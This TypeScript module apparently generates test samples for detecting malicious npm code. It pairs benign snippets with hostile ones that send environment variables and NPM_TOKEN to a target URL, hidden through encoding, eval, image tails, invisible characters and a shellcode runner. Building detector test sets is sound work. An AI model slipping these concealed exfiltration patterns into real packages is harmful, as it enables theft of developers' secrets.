import { base64, chars, codes, hex, reversed } from '../forms.ts'
import { deflateSync } from 'node:zlib'
import { urlOf, type Target } from '../target.ts'
import type { JsDeed } from './deed.ts'
import { quoted, type JsWriter } from './writer.ts'

/** The hidden code: a few lines that send the environment away. Never run, only ever read. */
function payload(target: Target): string {
  return `const https=require('https');const r=https.request('${urlOf(target, '/e')}',{method:'POST'});r.end(JSON.stringify(process.env));`
}

const ICON = '89504e470d0a1a0a0000000d494844520000001000000010080600000' + '01ff3ff61'.repeat(12)

/** Text that was packed for size, and is only shown. */
const notice: JsDeed['twin'] = (_w, _t, name) =>
  `const notice = Buffer.from(${quoted(base64(`${name} reads texts and trims them. It is made for small command lines, and has no settings of its own.`))}, 'base64').toString();\nconsole.log(notice);`
const icon: JsDeed['twin'] = (w) =>
  `const icon = Buffer.from(${quoted(ICON)}, 'hex');\n${w.fn('fs', 'writeFileSync')}(${w.fn('path', 'join')}(${w.here()}, ${w.text('icon-small.png')}), icon);`
const template: JsDeed['twin'] = (w) =>
  `const render = new (${w.global('Function')})('data', 'return "<p>" + data.title + "</p>"');\nconsole.log(render({ title: 'ready' }));`

/** The packer of old web pages: words in a list, their places in a text. */
function packedCode(target: Target): string {
  const words = [...new Set(payload(target).match(/\w{3,}/g))]
  const body = payload(target).replaceAll(/\w+/g, (word) => {
    const at = words.indexOf(word)
    return at === -1 ? word : at.toString(36)
  })
  return `function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}(${quoted(body)},36,${words.length},${quoted(words.join('|'))}.split('|'),0,{})`
}

function temporary(w: JsWriter, file: string): string {
  return `${w.fn('path', 'join')}(${w.fn('os', 'tmpdir')}(), ${w.text(file)})`
}

/** Code that is in the package and cannot be read there. */
export const JS_HIDDEN: Readonly<Record<string, JsDeed>> = {
  'base64-eval': {
    bad: (w, t) => `${w.global('eval')}(Buffer.from(${quoted(base64(payload(t)))}, 'base64').toString());`,
    twin: notice,
  },
  'atob-function': {
    bad: (w, t) => `new (${w.global('Function')})(atob(${quoted(base64(payload(t)))}))();`,
    twin: notice,
  },
  'hex-vm': {
    bad: (w, t) => `${w.fn('vm', 'runInThisContext')}(Buffer.from(${quoted(hex(payload(t)))}, 'hex').toString());`,
    twin: icon,
  },
  'hex-compile': {
    bad: (w, t) =>
      `const m = new (${w.mod('module')})('m');\nm._compile(Buffer.from(${quoted(hex(payload(t)))}, 'hex').toString(), 'm.js');`,
    twin: icon,
  },
  'codes-eval': { bad: (w, t) => `${w.global('eval')}(String.fromCharCode(${codes(payload(t))}));`, twin: template },
  'xor-eval': {
    bad: (w, t) =>
      `const bytes = [${codes(payload(t), (c) => c ^ 77)}];\n${w.global('eval')}(bytes.map((b) => String.fromCharCode(b ^ 77)).join(''));`,
    twin: template,
  },
  'zlib-eval': {
    bad: (w, t) =>
      `${w.global('eval')}(${w.fn('zlib', 'inflateSync')}(Buffer.from(${quoted(deflateSync(payload(t)).toString('base64'))}, 'base64')).toString());`,
    twin: (w) =>
      `const words = ${w.fn('zlib', 'inflateSync')}(Buffer.from(${quoted(deflateSync('alpha\nbeta\ngamma\n'.repeat(20)).toString('base64'))}, 'base64')).toString().split('\\n');\nconsole.log(words.length);`,
  },
  'packer-eval': { bad: (w, t) => `${w.global('eval')}(${packedCode(t)});`, twin: template },
  'cipher-eval': {
    bad: (w, t) =>
      `const d = ${w.fn('crypto', 'createDecipheriv')}('aes-256-cbc', ${quoted('k'.repeat(32))}, ${quoted('i'.repeat(16))});\n${w.global('eval')}(d.update(${quoted(hex(payload(t)))}, 'hex', 'utf8') + d.final('utf8'));`,
    twin: (w) =>
      `exports.open = function (key, iv, text) {\nconst d = ${w.fn('crypto', 'createDecipheriv')}('aes-256-cbc', key, iv);\nreturn JSON.parse(d.update(text, 'hex', 'utf8') + d.final('utf8'));\n};`,
  },
  'reversed-eval': {
    bad: (w, t) => `${w.global('eval')}(${quoted(reversed(payload(t)))}.split('').reverse().join(''));`,
    twin: template,
  },
  'indirect-constructor': {
    bad: (_w, t) => `[].filter.constructor(Buffer.from(${quoted(base64(payload(t)))}, 'base64').toString())();`,
    twin: notice,
  },
  'timer-text': {
    bad: (w, t) => `${w.global('setTimeout')}(Buffer.from(${quoted(base64(payload(t)))}, 'base64').toString(), 10);`,
    twin: notice,
  },
  'data-url-import': {
    bad: (_w, t) => `import('data:text/javascript;base64,' + ${quoted(base64(payload(t)))});`,
    twin: (_w) => `exports.icon = 'data:image/png;base64,' + ${quoted(Buffer.from(ICON, 'hex').toString('base64'))};`,
  },
  'node-e': {
    bad: (w, t) =>
      `${w.fn('child_process', 'execFile')}(${w.command('node')}, ['-e', Buffer.from(${quoted(base64(payload(t)))}, 'base64').toString()]);`,
    twin: (w) =>
      `${w.fn('child_process', 'execFile')}(${w.command('node')}, ['-p', 'process.version'], (e, out) => console.log(out));`,
  },
  'node-e-no-blank': {
    bad: (w, t) =>
      `${w.fn('child_process', 'execFile')}('node', ['-e', ${w.text(`require('https').get('${urlOf(t, '/')}'+process.env.NPM_TOKEN)`)}]);`,
    twin: (w) =>
      `${w.fn('child_process', 'execFile')}('node', ['-e', ${w.command("console.log(require('os').EOL.length)")}], () => {});`,
  },
  'write-decoded-node': {
    bad: (w, t) =>
      `const file = ${temporary(w, 'w.js')};\n${w.fn('fs', 'writeFileSync')}(file, Buffer.from(${quoted(base64(payload(t)))}, 'base64'));\n${w.fn('child_process', 'spawn')}(process.execPath, [file], { detached: true, stdio: 'ignore' }).unref();`,
    twin: icon,
  },
  'write-decoded-require': {
    bad: (w, t) =>
      `const file = ${temporary(w, 'w.js')};\n${w.fn('fs', 'writeFileSync')}(file, Buffer.from(${quoted(base64(payload(t)))}, 'base64').toString());\n${w.required('file')};`,
    twin: icon,
  },
  'file-text-eval': {
    bad: (w, t) => {
      w.files['help.txt'] = base64(payload(t))
      return `${w.global('eval')}(Buffer.from(${w.fn('fs', 'readFileSync')}(${w.fn('path', 'join')}(${w.here()}, ${w.text('help.txt')}), 'utf8'), 'base64').toString());`
    },
    twin: (w) => {
      w.files['help.txt'] = base64('usage: see the manual')
      return `console.log(Buffer.from(${w.fn('fs', 'readFileSync')}(${w.fn('path', 'join')}(${w.here()}, ${w.text('help.txt')}), 'utf8'), 'base64').toString());`
    },
  },
  'json-text-eval': {
    bad: (w, t) => {
      w.files['theme.json'] = JSON.stringify({ dark: '#000', init: payload(t) })
      return `const theme = JSON.parse(${w.fn('fs', 'readFileSync')}(${w.fn('path', 'join')}(${w.here()}, ${w.text('theme.json')}), 'utf8'));\nnew (${w.global('Function')})('require', 'process', theme.init)(${w.esm ? 'undefined' : 'require'}, process);`
    },
    twin: (w) => {
      w.files['theme.json'] = JSON.stringify({ dark: '#000', init: 'none' })
      return `const theme = JSON.parse(${w.fn('fs', 'readFileSync')}(${w.fn('path', 'join')}(${w.here()}, ${w.text('theme.json')}), 'utf8'));\nconsole.log(theme.dark, theme.init);`
    },
  },
  'image-tail-eval': {
    bad: (w, t) => {
      w.files['logo.png'] = Buffer.concat([Buffer.from(ICON, 'hex'), Buffer.from(`IEND${payload(t)}`)])
      return `const image = ${w.fn('fs', 'readFileSync')}(${w.fn('path', 'join')}(${w.here()}, ${w.text('logo.png')}));\n${w.global('eval')}(image.subarray(image.indexOf('IEND') + 4).toString());`
    },
    twin: (w) => {
      w.files['logo.png'] = Buffer.concat([Buffer.from(ICON, 'hex'), Buffer.from('IEND')])
      return `const image = ${w.fn('fs', 'readFileSync')}(${w.fn('path', 'join')}(${w.here()}, ${w.text('logo.png')}));\nif (image.indexOf('IEND') === -1) console.log('the logo is damaged');`
    },
  },
  'invisible-eval': {
    bad: (w, t) => {
      const hidden = chars(payload(t))
        .map((c) => String.fromCodePoint(0xe0100 + c.charCodeAt(0)))
        .join('')
      return `${w.global('eval')}([...'${hidden}'].map((c) => String.fromCharCode(c.codePointAt(0) - 0xe0100)).join(''));`
    },
    twin: template,
  },
  'whitespace-eval': {
    bad: (w, t) => {
      const bits = chars(payload(t).slice(0, 160))
        .map((c) => c.charCodeAt(0).toString(2).padStart(8, '0').replaceAll('0', ' ').replaceAll('1', '\\t'))
        .join('')
      return `const gap = '${bits}';\n${w.global('eval')}(gap.match(/.{8}/g).map((b) => String.fromCharCode(parseInt([...b].map((c) => (c === ' ' ? 0 : 1)).join(''), 2))).join(''));`
    },
    twin: template,
  },
  shellcode: {
    bad: (w) =>
      `const koffi = ${w.mod('koffi')};\nconst k32 = koffi.load(${w.text('kernel32.dll')});\nconst alloc = k32.func('void* VirtualAlloc(void*, size_t, uint32, uint32)');\nconst thread = k32.func('void* CreateThread(void*, size_t, void*, void*, uint32, void*)');\nconst code = Buffer.from('${'90'.repeat(60)}c3', 'hex');\nconst at = alloc(null, code.length, 0x3000, 0x40);\nkoffi.encode(at, 'uint8', code, code.length);\nthread(null, 0, at, null, 0, null);`,
    twin: (w) =>
      `const koffi = ${w.mod('koffi')};\nconst libm = koffi.load(${w.text('libm.so.6')});\nconst cosine = libm.func('double cos(double)');\nconsole.log(cosine(0));`,
  },
}
